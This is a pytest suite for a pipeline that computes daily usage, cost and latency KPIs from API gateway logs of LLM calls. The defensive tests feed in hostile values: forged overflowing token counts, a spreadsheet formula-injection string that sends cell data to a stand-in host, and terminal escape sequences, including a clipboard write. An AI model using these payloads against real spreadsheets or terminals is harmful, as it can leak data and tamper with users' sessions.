"""Daily KPIs: the timer, rollup reconciliation with audit rows, repricing, the kpi report."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import struct
import zlib
from collections import defaultdict
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest
from azure.data.tables import EdmType, EntityProperty

from pipeline import runtime
from pipeline.cli.main import main
from pipeline.ingest.batch import process_batch
from pipeline.kpi import daily, prices, report, rollup
from pipeline.kpi.sketch import Sketch
from pipeline.model import EventIn
from pipeline.settings import Config, SettingsError
from pipeline.store.account import Store
from pipeline.store.kpis import KpiStore
from tests.conftest import settings_env
from tests.fixtures import apim, sources
from tests.test_function_app import _functions

D1, D2, D3 = date(2025, 11, 4), date(2025, 11, 5), date(2025, 11, 6)


def calls_of_day(day: date, n: int, seed: int) -> list[dict[str, Any]]:
    """A day of varied calls: models priced and not, estimates, unknown tokens, throttling."""
    out = []
    for i in range(n):
        cid = apim.new_id(f"kpi-{day}-{seed}-{i}")
        when = f"{day}T{8 + i % 10:02d}:{i % 60:02d}:07.0000000Z"
        team = ["team-finance", "team-hr", "team-legal"][i % 3]
        kind = i % 9
        if kind == 0:
            rec = apim.backend_429(cid, time=when, apimSubscriptionId=team)
        elif kind == 1:
            rec = apim.gateway_429(cid, time=when, apimSubscriptionId=team)
        elif kind == 2:  # streamed, no response body: prompt estimated, completion unknown
            rec = apim.gateway(
                cid,
                time=when,
                apimSubscriptionId=team,
                response=None,
                request=apim.chat_request(("user", "Say hello."), stream=True),
            )
        elif kind == 3:  # nothing logged: tokens unknown
            rec = apim.gateway(cid, time=when, apimSubscriptionId=team, request=None, response=None)
        elif kind == 4:  # a model the price table does not list
            rec = apim.gateway(
                cid,
                time=when,
                apimSubscriptionId=team,
                deployment="custom",
                response=apim.chat_response(
                    "x", model="my-finetune-2025", prompt=100, completion=20
                ),
            )
        elif kind == 5:
            rec = apim.gateway(
                cid,
                time=when,
                apimSubscriptionId=team,
                deployment="o3-mini",
                backendId="aoai-swc",
                response=apim.chat_response(
                    "x",
                    model="o3-mini-2025-01-31",
                    prompt=300 + i,
                    completion=900,
                    reasoning=600,
                    cached=128,
                ),
            )
        elif kind == 6:
            rec = apim.gateway(
                cid,
                time=when,
                apimSubscriptionId=team,
                status=500,
                backend_status=500,
                response={"error": {"code": "InternalServerError", "message": "boom"}},
            )
        else:
            rec = apim.gateway(
                cid,
                time=when,
                apimSubscriptionId=team,
                response=apim.chat_response(
                    "ok", prompt=1000 + 7 * i, completion=50 + i, cached=512
                ),
            )
        rec["durationMs"] = 100 + 37 * i + (i % 5) * 400
        rec["properties"]["backendTime"] = 80 + 31 * i
        out.append(rec)
    return out


def load_days(store: Store, cfg: Config, *days: tuple[date, int, int]) -> None:
    for day, n, seed in days:
        recs = calls_of_day(day, n, seed)
        events = [EventIn(apim.envelope(*recs[i : i + 10])) for i in range(0, len(recs), 10)]
        process_batch(events, cfg, store)


def kpi_rows(store: Store, day: date) -> dict[str, dict[str, Any]]:
    return {
        e["RowKey"]: {k: getattr(v, "value", v) for k, v in e.items()}
        for e in KpiStore(store).rows(f"{day}", f"{day}")
    }


def expected_from_audit(
    store: Store, day: date, table: prices.PriceTable
) -> dict[tuple, dict[str, Any]]:
    """The KPIs computed directly from the audit rows, independently of rollup.py."""
    groups: dict[tuple, dict[str, Any]] = defaultdict(lambda: defaultdict(float))
    for e in store.audit.query_entities(
        f"PartitionKey ge '{day}' and PartitionKey lt '{day + timedelta(days=1)}'"
    ):
        row = {k: getattr(v, "value", v) for k, v in e.items()}
        for key in [tuple(row.get(d) or None for d in rollup.DIMENSIONS), "_total"]:
            g = groups[key]
            g["Calls"] += 1
            status = row.get("Status")
            g["Succeeded"] += status is not None and status < 400
            g["Throttled"] += status == 429
            g["ThrottledByGateway"] += status == 429 and row.get("ErrorSource") == "gateway"
            g["ClientErrors"] += status is not None and 400 <= status < 500 and status != 429
            g["ServerErrors"] += status is not None and status >= 500
            for t in rollup.TOKENS:
                g[t] += row.get(t) or 0
            g["EstimatedCalls"] += row.get("TokensSource") == "estimated"
            ok = status is None or status < 400
            g["UnknownTokenCalls"] += ok and (
                row.get("TokensSource") == "none"
                or row.get("PromptTokens") is None
                or row.get("CompletionTokens") is None
            )
            price = table.price(row.get("Model"), row.get("Deployment"), day)
            if ok:
                if (
                    price is None
                    or row.get("PromptTokens") is None
                    or row.get("CompletionTokens") is None
                ):
                    g["UnpricedCalls"] += 1
                else:
                    g["Cost"] += price.cost(
                        row["PromptTokens"], row["CompletionTokens"], row.get("CachedTokens")
                    )
            g.setdefault("durations", []).append(row.get("DurationMs"))
    return groups


def nearest_rank(values: list[int], q: float) -> float:
    ordered = sorted(values)
    return float(ordered[max(1, math.ceil(q * len(ordered))) - 1])


def test_rollup_reconciles_with_audit_rows_and_reruns_are_identical(
    cfg: Config, store: Store
) -> None:
    load_days(store, cfg, (D1, 45, 1), (D2, 30, 2))
    table = prices.load("")
    daily.roll_up([D1, D2], cfg, store)
    for day in (D1, D2):
        got = kpi_rows(store, day)
        want = expected_from_audit(store, day, table)
        assert len(got) == len(want)
        for key, w in want.items():
            rk = "_total" if key == "_total" else rollup.kpi_row_key(key)
            g = got[rk]
            for name in (
                "Calls",
                "Succeeded",
                "Throttled",
                "ThrottledByGateway",
                "ClientErrors",
                "ServerErrors",
                "EstimatedCalls",
                "UnknownTokenCalls",
                "UnpricedCalls",
                *rollup.TOKENS,
            ):
                assert g[name] == int(w[name]), (day, key, name)
            assert g["CostUsd"] == pytest.approx(w["Cost"], abs=1e-7)
            for name, q in (
                ("DurationP50Ms", 0.5),
                ("DurationP95Ms", 0.95),
                ("DurationP99Ms", 0.99),
            ):
                exact = nearest_rank(w["durations"], q)
                assert abs(g[name] - exact) <= 0.01 * exact, (name, g[name], exact)
        total = got["_total"]
        assert total["PriceTableVersion"] == table.version
        assert (
            total["Throttled"] > 0
            and total["ThrottledByGateway"] > 0
            and total["UnpricedCalls"] > 0
        )
        assert (
            total["EstimatedCalls"] > 0 and total["UnknownTokenCalls"] > 0 and total["CostUsd"] > 0
        )

    before = {d: kpi_rows(store, d) for d in (D1, D2)}
    daily.roll_up([D1, D2], cfg, store)
    daily.roll_up([D2], cfg, store)
    assert {d: kpi_rows(store, d) for d in (D1, D2)} == before


def test_late_events_and_stale_groups(cfg: Config, store: Store) -> None:
    load_days(store, cfg, (D1, 20, 3))
    daily.roll_up([D1], cfg, store)
    calls = kpi_rows(store, D1)["_total"]["Calls"]
    store.kpi.upsert_entity({"PartitionKey": f"{D1}", "RowKey": "gone|model|team|x|y", "Calls": 99})
    load_days(store, cfg, (D1, 7, 4))  # late arrivals for D1
    daily.roll_up([D1], cfg, store)
    rows = kpi_rows(store, D1)
    assert rows["_total"]["Calls"] == calls + 7
    assert "gone|model|team|x|y" not in rows  # the day's rows are replaced, not merged


def test_editing_the_price_table_reprices_only_the_affected_days(
    cfg: Config, store: Store, tmp_path: Path
) -> None:
    load_days(store, cfg, (D1, 18, 5), (D2, 18, 6), (D3, 18, 7))
    daily.roll_up([D1, D2, D3], cfg, store)
    before = {d: kpi_rows(store, d)["_total"]["CostUsd"] for d in (D1, D2, D3)}
    doc = orjson.loads(prices.BUNDLED.read_bytes())
    doc["version"] = "test-cut"
    doc["prices"].append(
        {
            "models": ["gpt-4o", "gpt-4o-2024-08-06"],
            "effective": f"{D2}",
            "input": 1.0,
            "cachedInput": 0.5,
            "output": 4.0,
        }
    )
    path = tmp_path / "prices.json"
    path.write_bytes(orjson.dumps(doc))
    repriced = replace(cfg, price_table=str(path))
    daily.roll_up([D1, D2, D3], repriced, store)
    after = {d: kpi_rows(store, d)["_total"] for d in (D1, D2, D3)}
    assert after[D1]["CostUsd"] == before[D1]
    assert after[D2]["CostUsd"] < before[D2] and after[D3]["CostUsd"] < before[D3]
    assert {r["PriceTableVersion"] for r in after.values()} == {"test-cut"}


def test_model_names_with_and_without_version() -> None:
    table = prices.load("")
    day = date(2025, 11, 4)
    for name in ("gpt-4o", "gpt-4o-2024-08-06", "GPT-4o-2024-11-20"):
        assert table.price(name, None, day).input == 2.5
    assert table.price("gpt-35-turbo", None, day).input == 0.5
    assert table.price("gpt-3.5-turbo-0125", None, day).input == 0.5
    assert table.price("gpt-4o-2024-05-13", None, day).input == 5.0
    assert table.price("gpt-4o-2099-01-01", None, day) is None  # unknown version: never a guess
    assert table.price(None, "chat-prod", day) is None
    assert table.price("o3", None, date(2025, 6, 1)).input == 10.0  # before the June 2025 cut
    assert table.price("o3", None, date(2025, 6, 10)).input == 2.0
    assert table.price("gpt-4.1", None, date(2025, 1, 1)) is None  # not yet released
    p = table.price("gpt-4o", None, day)
    assert p.cost(1_000_000, 1_000_000, 400_000) == pytest.approx(0.6 * 2.5 + 0.4 * 1.25 + 10.0)
    with pytest.raises(prices.PriceTableError, match=r"prices\[0\]: \"input\""):
        prices.PriceTable({"prices": [{"models": ["x"], "effective": "2025-01-01", "output": 1}]})


def test_sketch_quantiles_within_one_percent() -> None:
    import random

    rng = random.Random(3)
    values = [int(rng.lognormvariate(6, 1.2)) for _ in range(20_000)]
    a, b = Sketch(), Sketch()
    for i, v in enumerate(values):
        (a if i % 2 else b).add(v)
    a.merge(b)
    for q in (0.5, 0.9, 0.95, 0.99, 0.999):
        exact = nearest_rank(values, q)
        assert abs(a.quantile(q) - exact) <= 0.01 * exact
    assert Sketch.from_json(a.to_json()).quantile(0.95) == a.quantile(0.95)
    assert len(a.buckets) < 1000


def test_timer_function_is_bound_and_rolls_up_yesterday(
    cfg: Config, store: Store, monkeypatch
) -> None:
    fn = _functions()["rollup"]
    (binding,) = json.loads(fn.get_function_json())["bindings"]
    assert binding["type"] == "timerTrigger" and binding["schedule"] == "%KPI_SCHEDULE%"
    assert binding.get("runOnStartup") in (False, None)
    params = list(__import__("inspect").signature(fn.get_user_function()).parameters)
    assert params == [binding["name"]]
    assert fn.get_setting("retry_policy") is not None
    # The schedule the binding reads is validated NCRONTAB (get_functions() does not check it).
    assert Config.from_env({}).kpi_schedule == "0 15 0 * * *"
    with pytest.raises(SettingsError, match="6 fields"):
        Config.from_env({"KPI_SCHEDULE": "15 0 * * *"})

    yesterday = datetime.now(UTC).date() - timedelta(days=1)
    load_days(store, cfg, (yesterday, 12, 8), (yesterday - timedelta(days=2), 5, 9))
    for key, value in settings_env(cfg).items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("KPI_TABLE", cfg.kpi_table)
    runtime.reset()
    try:
        fn.get_user_function()(None)
    finally:
        runtime.reset()
    assert kpi_rows(store, yesterday)["_total"]["Calls"] == 12
    assert kpi_rows(store, yesterday - timedelta(days=2))["_total"]["Calls"] == 5  # re-rolled


def _png_size_and_ink(path: Path) -> tuple[int, int, int]:
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = struct.unpack(">II", data[16:24])
    idat, pos = b"", 8
    while pos < len(data):
        length = struct.unpack(">I", data[pos : pos + 4])[0]
        kind = data[pos + 4 : pos + 8]
        if kind == b"IDAT":
            idat += data[pos + 8 : pos + 8 + length]
        pos += 12 + length
    pixels = zlib.decompress(idat)
    distinct = len(set(pixels[i : i + 3] for i in range(1, min(len(pixels), 400_000), 97)))
    return width, height, distinct


def test_kpi_command_table_csv_json_and_chart(
    cfg: Config, store: Store, tmp_path: Path, monkeypatch, capsys
) -> None:
    load_days(store, cfg, (D1, 20, 10), (D2, 20, 11))
    for key, value in settings_env(cfg).items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("KPI_TABLE", cfg.kpi_table)
    assert main(["rollup", "--day", f"{D2}", "--days", "2"]) == 0
    assert f"{D1}: 20 calls" in capsys.readouterr().out

    def kpi(*args: str) -> int:
        return main(["kpi", "--from", f"{D1}", "--to", f"{D2}", *args])

    chart = tmp_path / "kpi.png"
    assert kpi("--by", "subscription", "--chart", str(chart)) == 0
    out = capsys.readouterr().out
    lines = out.splitlines()
    assert lines[0].split()[:3] == ["SubscriptionId", "Calls", "Succeeded"]
    assert any(line.startswith("team-finance") for line in lines) and lines[-1].startswith("TOTAL")
    assert lines[-1].split()[1] == "40"
    width, height, distinct = _png_size_and_ink(chart)
    assert (width, height) == (1200, 800) and distinct > 5

    assert kpi("--by", "model", "--format", "csv", "--daily") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["Day"] for r in rows if r["Model"] != "TOTAL"} == {f"{D1}", f"{D2}"}
    assert sum(int(r["Calls"]) for r in rows if r["Model"] != "TOTAL") == 40

    assert kpi("--by", "backend", "--format", "json") == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc[-1]["BackendId"] == "TOTAL" and doc[-1]["Calls"] == 40
    assert main(["kpi", "--from", "2020-01-01", "--to", "2020-01-02"]) == 1
    assert "rollup --day 2020-01-02 --days 2" in capsys.readouterr().err


def test_stacked_ylim_is_above_the_tallest_stacked_day_not_the_largest_layer() -> None:
    # day 0 holds the largest single layer (60), day 1 the tallest stack (50 + 40 + 20 + 0)
    series = {"a": [60.0, 50.0, 5.0], "b": [0.0, 40.0, 5.0], "c": [1.0, 20.0, 0.0]}
    series["d"] = [0.0, 0.0, 0.0]
    assert report.stacked_totals(series) == [61.0, 110.0, 10.0]
    bottom, top = report.stacked_ylim(series)
    assert bottom == 0 and top == pytest.approx(110 * (1 + report.CHART_HEADROOM)) and top > 110
    assert report.stacked_ylim({"a": [0.0, 0.0]}) == (0.0, 1.0)  # nothing spent: still a range
    assert report.stacked_ylim({}) == (0.0, 1.0)


def _stacked_lines(groups: int, tail: int) -> list[dict[str, Any]]:
    """Daily lines where D2's stacked total (110,000 tokens + `tail`) towers over D1 and D3,
    while the largest single layer (60,000) is on D1; the cheapest group, drawn last (unless
    folded into "other"), has `tail` tokens on D2."""
    tokens = [(D1, "team-a", 60_000), (D1, "team-tiny", 1_000), (D3, "team-a", 20_000)]
    tokens += [(D2, f"team-{i:02}", 110_000 / groups) for i in range(groups)]
    tokens += [(D2, "team-tiny", tail)] if tail else []
    lines = [
        {"Day": f"{day}", "SubscriptionId": key, "TotalTokens": n, "CostUsd": n * 1.5e-6}
        for day, key, n in tokens
    ]
    return [*lines, {"SubscriptionId": "TOTAL", "TotalTokens": 0, "CostUsd": 0.0}]


@pytest.mark.parametrize(("groups", "tail"), [(2, 0), (5, 0), (5, 1), (12, 0)])
def test_chart_y_axes_end_above_the_tallest_stacked_day(
    groups: int, tail: int, tmp_path: Path, monkeypatch
) -> None:
    pytest.importorskip("matplotlib")
    import matplotlib.pyplot as plt

    lines = _stacked_lines(groups, tail)
    tallest = {
        metric: max(
            sum(ln[metric] for ln in lines if ln.get("Day") == f"{day}") for day in (D1, D2, D3)
        )
        for metric in ("TotalTokens", "CostUsd")
    }
    assert tallest["TotalTokens"] == pytest.approx(110_000 + tail)
    drawn: dict[str, tuple[float, float]] = {}
    close = plt.close

    def capture(fig: Any = None) -> None:
        drawn.update({ax.get_ylabel(): ax.get_ylim() for ax in fig.axes})
        close(fig)

    monkeypatch.setattr(plt, "close", capture)
    path = tmp_path / "stacked.png"
    assert report.chart(lines, "subscription", path, "stacked") == path
    assert _png_size_and_ink(path)[:2] == (1200, 800)
    panels = {"Tokens per day": "TotalTokens", "Cost per day (USD)": "CostUsd"}
    assert set(drawn) == set(panels)
    for label, metric in panels.items():
        bottom, top = drawn[label]
        assert bottom == 0
        assert top >= 1.02 * tallest[metric], (label, top, tallest[metric])


def test_llm_only_calls_count_without_a_status(cfg: Config, store: Store) -> None:
    cid = apim.new_id("kpi-llm-only")
    process_batch(
        [EventIn(apim.envelope(sources.llm_header(cid, time=f"{D1}T10:00:00Z")))], cfg, store
    )
    daily.roll_up([D1], cfg, store)
    total = kpi_rows(store, D1)["_total"]
    assert total["Calls"] == 1 and total["Succeeded"] == 0 and total["PromptTokens"] == 29
    assert total["CostUsd"] == pytest.approx((29 * 2.5 + 13 * 10.0) / 1e6)


def _with_usage(tag: str, usage: dict[str, int], sub: str, time: str) -> dict[str, Any]:
    rec = apim.gateway(apim.new_id(tag), time=time, apimSubscriptionId=sub)
    body = orjson.dumps({**apim.chat_response("x"), "usage": usage}).decode()
    rec["properties"]["backendResponseBody"] = rec["properties"]["responseBody"] = body
    return rec


def test_token_counts_no_call_can_have_neither_fail_ingest_nor_stop_the_kpis(
    cfg: Config, store: Store
) -> None:
    # A sender on the hub reports 2^63-1 tokens: the total overflowed Int64 (the batch failed,
    # 0 rows of 21), and a day's sums overflowed it (the timer raised: no KPI for anyone).
    big = 2**63 - 1
    victims = [
        _with_usage(
            f"victim-{i}",
            {"prompt_tokens": 100, "completion_tokens": 10},
            "team-a",
            f"{D1}T10:0{i}:00Z",
        )
        for i in range(3)
    ]
    forged = _with_usage(
        "forged", {"prompt_tokens": big, "completion_tokens": 5}, "x", f"{D1}T11:00:00Z"
    )
    result = process_batch([EventIn(apim.envelope(*victims, forged))], cfg, store)
    assert result.created == 4 and not result.dead
    (row,) = store.find_rows(apim.new_id("forged"))
    assert row.get("PromptTokens") is None and row.get("TotalTokens") is None
    assert row["CompletionTokens"] == 5
    # A row written by hand (a tampered table) with such counts: the KPIs still roll up.
    tampered = dict(row, RowKey="tampered", PromptTokens=EntityProperty(big, EdmType.INT64))
    tampered["TotalTokens"] = EntityProperty(big, EdmType.INT64)
    store.audit.upsert_entity(tampered)
    store.audit.upsert_entity(dict(row, RowKey="negative", PromptTokens=-5, CompletionTokens=-5))
    daily.roll_up([D1], cfg, store)
    total = kpi_rows(store, D1)["_total"]
    assert total["Calls"] == 6 and total["PromptTokens"] == 300
    assert total["CompletionTokens"] == 3 * 10 + 5 + 5  # the forged 5, and 5 more tampered
    # Each count within the bound, their sum past it: the total is unknown too.
    half = 6 * 10**8
    usage = {"prompt_tokens": half, "completion_tokens": half}
    rec = _with_usage("halves", usage, "x", f"{D1}T12:00:00Z")
    process_batch([EventIn(apim.envelope(rec))], cfg, store)
    (row,) = store.find_rows(apim.new_id("halves"))
    assert row["PromptTokens"] == half and row.get("TotalTokens") is None


def test_names_clients_write_are_inert_in_kpi_csv_tables_and_charts(tmp_path: Path) -> None:
    # A deployment or model name is what a client wrote (the body's `model` on some routes).
    names = ['=HYPERLINK("http://x/?"&A1)', "ok\x1b[2Jcleared", "$\\frac{a}$", "_hidden", "p"]
    lines = [
        {"Day": f"{D1}", "Deployment": name, "TotalTokens": 10 * (i + 1), "CostUsd": 0.01}
        for i, name in enumerate(names)
    ]
    rows = list(csv.reader(io.StringIO(report.as_csv(lines))))
    assert rows[1][1] == "'" + names[0] and rows[5][1] == "p"
    # CSV and JSON go to standard output too: nothing a terminal would act on.
    lines.append({**lines[-1], "Deployment": "osc\x1b]52;c;eA==\x07\u009b2J\x7f"})
    for out in (report.as_csv(lines), report.as_json(lines)):
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", out)
    assert orjson.loads(report.as_json(lines))[-1]["Deployment"] == lines[-1]["Deployment"]
    lines.pop()
    shown = report.as_table(lines, "deployment")
    assert "\x1b" not in shown and "ok\\x1b[2Jcleared" in shown
    path = report.chart(lines, "deployment", tmp_path / "c.png", "names")  # no math-text error
    assert path.exists() and _png_size_and_ink(path)[2] > 5
    assert report._legend_label("_hidden") != "_hidden"
